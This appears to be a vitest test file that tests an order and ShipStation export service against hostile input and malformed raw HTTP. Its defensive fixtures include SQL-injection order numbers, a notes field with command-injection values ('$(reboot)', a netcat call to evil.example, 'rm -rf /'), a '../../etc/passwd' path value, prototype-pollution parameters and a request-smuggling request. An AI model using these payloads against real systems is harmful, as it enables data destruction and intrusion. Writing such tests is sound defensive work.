// The edges of the hostile suite: odd but legal input answered normally, and attacks on the HTTP transport itself.

import { describe, expect, it } from 'vitest'
import { API_BASIC, API_ENV, createOrderUrl } from '../helpers/api.js'
import { makeApp, SS_BASIC } from '../helpers/app.js'
import { integrityCheck, rowCounts } from '../helpers/db-state.js'
import { noticeText, postNotice } from '../helpers/notices.js'
import { makeOrder, seedOrder } from '../helpers/orders.js'
import { listening, rawHttp } from '../helpers/raw-http.js'
import { ordersOf } from '../helpers/xml.js'

const WINDOW = 'start_date=01/01/2000&end_date=12/31/2099+23:59'

describe('odd but legal input is answered normally', () => {
  it('stores SQL and shell metacharacters in text and numbers verbatim, and exports them as text', async () => {
    const t = await makeApp({ env: API_ENV })
    const nasty = {
      orderNumber: "T1'; DROP TABLE orders;--",
      customerNotes: '$(reboot) `id` | nc evil.example 1 && rm -rf / ; <script>]]>&amp;',
      internalNotes: "Robert'); DROP TABLE order_lines;--",
    }
    const res = await t.app.inject({ method: 'POST', url: createOrderUrl(), payload: makeOrder(1, nasty) })
    expect(res.statusCode).toBe(201)
    expect(res.headers.location).toBe(`/api/orders/${encodeURIComponent(nasty.orderNumber)}`)
    const back = await t.app.inject({ url: res.headers.location as string, headers: { authorization: API_BASIC } })
    expect(back.json().order).toMatchObject(nasty)
    const xml = await t.app.inject({
      url: `/shipstation?action=export&${WINDOW}`,
      headers: { authorization: SS_BASIC },
    })
    const [order] = ordersOf(xml.body)
    expect(order).toMatchObject({ OrderNumber: nasty.orderNumber, CustomerNotes: nasty.customerNotes })
    expect(rowCounts(t.db)).toMatchObject({ orders: 1, order_lines: 2 })
    expect(integrityCheck(t.db)).toBe('ok')
  })

  it('takes an order number that looks like a path as a name, never as a path', async () => {
    const t = await makeApp({ env: API_ENV })
    const number = '../../etc/passwd'
    expect(
      (await t.app.inject({ method: 'POST', url: createOrderUrl(), payload: makeOrder(1, { orderNumber: number }) }))
        .statusCode,
    ).toBe(201)
    const res = await t.app.inject({
      url: `/api/orders/${encodeURIComponent(number)}`,
      headers: { authorization: API_BASIC },
    })
    expect(res.statusCode).toBe(200)
    expect(res.json().order.orderNumber).toBe(number)
  })

  it.each([
    ['a __proto__ parameter', `action=export&${WINDOW}&__proto__=x&constructor[prototype][x]=1`],
    ['a window in the year 9999', 'action=export&start_date=12/31/9999+00:00&end_date=12/31/9999+23:59'],
    ['an empty page parameter (page 1)', `action=export&${WINDOW}&page=`],
  ])('an export with %s → 200', async (_name, query) => {
    const t = await makeApp()
    const res = await t.app.inject({ url: `/shipstation?${query}`, headers: { authorization: SS_BASIC } })
    expect(res.statusCode).toBe(200)
    expect(({} as Record<string, unknown>).x).toBeUndefined()
  })

  it.each([
    ['nonsense', 'nonsense'],
    ['an empty Content-Type header', ''],
  ])('journals and applies a notice sent with %s (Fastify would answer 415 and lose it)', async (_name, type) => {
    const t = await makeApp()
    await t.app.services.ingest(seedOrder(), 'test')
    const res = await postNotice(t, noticeText('split-1-of-2.xml'), { contentType: type })
    expect(res.statusCode).toBe(200)
    const [entry] = await t.app.services.notices.list(1)
    expect(entry).toMatchObject({ outcome: 'applied', contentType: type })
  })
})

describe('known gaps, for the lead (src/sophio/createorder.ts)', () => {
  it('createorder refuses an order number made only of control characters', async () => {
    const t = await makeApp({ env: API_ENV })
    const res = await t.app.inject({
      method: 'POST',
      url: createOrderUrl(),
      payload: makeOrder(1, { orderNumber: '\u0001\u0002' }),
    })
    expect(res.statusCode).toBe(400)
    expect(res.json().error.problems).toContainEqual({
      path: 'orderNumber',
      message: 'is required (it held only control characters)',
    })
  })
})

describe('the HTTP transport', () => {
  it.each([
    [
      'a 20 kB header',
      `GET /shipstation HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`,
      /^HTTP\/1\.1 431 /,
    ],
    ['a broken request line', 'GET /shipstation HTTP/9.9 nonsense\r\n\r\n', /^HTTP\/1\.1 400 /],
    ['a header without a colon', 'GET /shipstation HTTP/1.1\r\nHost: x\r\nno colon here\r\n\r\n', /^HTTP\/1\.1 400 /],
    ['a NUL in the URL', 'GET /ship\u0000station HTTP/1.1\r\nHost: x\r\n\r\n', /^HTTP\/1\.1 400 /],
    [
      'both Content-Length and Transfer-Encoding (request smuggling)',
      'POST /shipstation HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
      /^HTTP\/1\.1 400 /,
    ],
    [
      'a malformed chunk size',
      'POST /shipstation?action=shipnotify HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n',
      /^HTTP\/1\.1 40\d /,
    ],
  ])('%s → a 4xx without HTML, and the server keeps serving', async (_name, request, status) => {
    const { t, port } = await listening()
    const answer = await rawHttp(port, request)
    expect(answer).toMatch(status)
    expect(answer).not.toMatch(/<html/i)
    const after = await fetch(`http://127.0.0.1:${port}/shipstation?action=export&${WINDOW}`, {
      headers: { authorization: SS_BASIC },
    })
    expect(after.status).toBe(200)
    expect(t.logs.filter((l) => Number(l.level) >= 50)).toEqual([])
  })

  it('a body that stops short of its Content-Length neither hangs the server nor stores anything', async () => {
    const { t, port } = await listening()
    await t.app.services.ingest(seedOrder(), 'test')
    const head = `POST /shipstation?action=shipnotify HTTP/1.1\r\nHost: x\r\nAuthorization: ${SS_BASIC}\r\nContent-Length: 5000\r\n\r\n`
    await rawHttp(port, head + noticeText('split-1-of-2.xml').slice(0, 200), 300)
    const after = await fetch(`http://127.0.0.1:${port}/shipstation?action=export&${WINDOW}`, {
      headers: { authorization: SS_BASIC },
    })
    expect(after.status).toBe(200)
    expect(rowCounts(t.db).shipments).toBe(0)
  })
})
